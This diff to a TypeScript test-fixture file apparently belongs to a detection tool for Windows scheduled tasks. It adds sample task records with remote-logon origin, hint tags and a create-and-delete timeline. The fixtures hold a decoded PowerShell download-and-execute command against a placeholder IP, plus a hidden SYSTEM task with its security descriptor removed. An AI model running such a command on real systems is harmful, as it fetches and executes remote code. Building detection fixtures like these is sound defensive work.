@@ -20,6 +20,8 @@ import type {
   Snapshot,
   SourceRow,
   StepDetail,
+  TaskDetail,
+  TaskList,
   TaskRow,
 } from "../../src/screen/store/snapshot.ts";
 import type { PendingDetail } from "../../src/screen/store/pending-detail.ts";
@@ -166,6 +168,18 @@ export const TASKS: readonly TaskRow[] = [
     decoded: "IEX (iwr http://203.0.113.9/a.ps1)",
     detail: "created, task event 4698, runs as SYSTEM",
     unknown: undefined,
+    change: "created",
+    asked: false,
+    user: "CORP\\jdoe",
+    origin: {
+      kind: "remote",
+      host: "WKS-007.corp.example",
+      address: "10.0.0.7",
+      from: "logon 0xabc (4624)",
+      inferred: false,
+    },
+    hints: ["encoded-powershell", "hidden-window", "network-download"],
+    guid: "{6F3C1A52-0000-4000-8000-000000000001}",
   },
   {
     id: "t2",
@@ -176,6 +190,12 @@ export const TASKS: readonly TaskRow[] = [
     decoded: "",
     detail: "created, registry value, at logon",
     unknown: undefined,
+    change: "created",
+    asked: true,
+    user: "",
+    origin: { kind: "local", from: "command line", inferred: true },
+    hints: ["user-writable-path"],
+    guid: "",
   },
   {
     id: "t3",
@@ -187,6 +207,12 @@ export const TASKS: readonly TaskRow[] = [
     detail: "changed",
     unknown:
       "the log says that the value was set, not what to; event 4698 would tell",
+    change: "updated",
+    asked: false,
+    user: "",
+    origin: undefined,
+    hints: [],
+    guid: "{6F3C1A52-0000-4000-8000-000000000003}",
   },
 ];
 
@@ -263,9 +289,40 @@ export function snapshot(
       filter,
       filterError: undefined,
     },
-    tasks: { total: tasks.length, rows: tasks },
+    tasks: { total: tasks.length, rows: tasks, version: 1 },
+    taskList: undefined,
     replay: undefined,
     messages: [],
+    ...over,
+  };
+}
+
+/** The list of all tasks. */
+export function taskList(
+  rows: readonly TaskRow[] = TASKS,
+  over: Partial<TaskList> = {},
+): TaskList {
+  return {
+    total: rows.length,
+    remote: rows.filter(({ origin }) => origin?.kind === "remote").length,
+    matching: rows.length,
+    from: 0,
+    rows,
+    filter: "",
+    filterError: undefined,
+    ...over,
+  };
+}
+
+/** The page of the first task. */
+export function taskDetail(over: Partial<TaskDetail> = {}): TaskDetail {
+  return {
+    id: "t1",
+    version: 1,
+    row: TASKS[0]!,
+    index: 0,
+    total: 3,
+    records: [STORIED_TASK],
     ...over,
   };
 }
@@ -384,6 +441,93 @@ export const TASK_RECORD: TaskRecord = {
   ],
   from: "task event 4698",
   unknown: undefined,
+};
+
+const LOG = "/var/log/win/wks.ndjson";
+
+/** A task of which everything is told. */
+export const STORIED_TASK: TaskRecord = {
+  ...TASK_RECORD,
+  definition: {
+    ...TASK_RECORD.definition!,
+    author: "CORP\\jdoe",
+    registration: {
+      date: "2024-03-05T12:04:27",
+      source: null,
+      version: null,
+      documentation: null,
+      securityDescriptor: null,
+    },
+    principals: [
+      {
+        id: "Author",
+        userId: "S-1-5-18",
+        groupId: null,
+        logonType: "S4U",
+        runLevel: "HighestAvailable",
+        privileges: ["SeDebugPrivilege"],
+      },
+    ],
+    settings: { enabled: false, hidden: true, deleteExpiredTaskAfter: "PT0S" },
+  },
+  hints: [
+    ...TASK_RECORD.hints,
+    {
+      hint: "short-lived",
+      reason: "was created and removed at once",
+      matched: "0.2 s",
+    },
+    { hint: "sd-removed", reason: "its descriptor was deleted", matched: "" },
+  ],
+  unwrapped: [
+    {
+      layers: [
+        {
+          kind: "powershell-encoded",
+          text: "IEX (iwr http://203.0.113.9/a.ps1)",
+        },
+      ],
+      problem: "depth-limit",
+    },
+  ],
+  origin: {
+    kind: "remote",
+    host: "WKS-007",
+    address: "10.0.0.7",
+    logonId: "0xabc",
+    logonType: "Network",
+    from: "logon 0xabc (4624)",
+    inferred: false,
+    at: { file: LOG, line: 90 },
+  },
+  createdUs: at("12:04:28.400"),
+  deletedUs: at("12:04:28.600"),
+  differences: [{ what: "runAs", before: "CORP\\jdoe", after: "S-1-5-18" }],
+  story: [
+    {
+      timeUs: at("12:04:28.400"),
+      what: "created",
+      text: "created",
+      from: ["registry values", "task event 4698"],
+      at: [{ file: LOG, line: 100 }, null],
+    },
+    {
+      timeUs: at("12:04:28.600"),
+      what: "deleted",
+      text: "deleted",
+      from: ["task event 4699"],
+      at: [{ file: LOG, line: 120 }],
+    },
+  ],
+  parts: [
+    {
+      part: "name",
+      from: "its own events",
+      inferred: false,
+      at: { file: LOG, line: 99 },
+    },
+    { part: "user", from: "command line", inferred: true },
+  ],
 };
 
 export function detail(over: Partial<AlertDetail> = {}): AlertDetail {
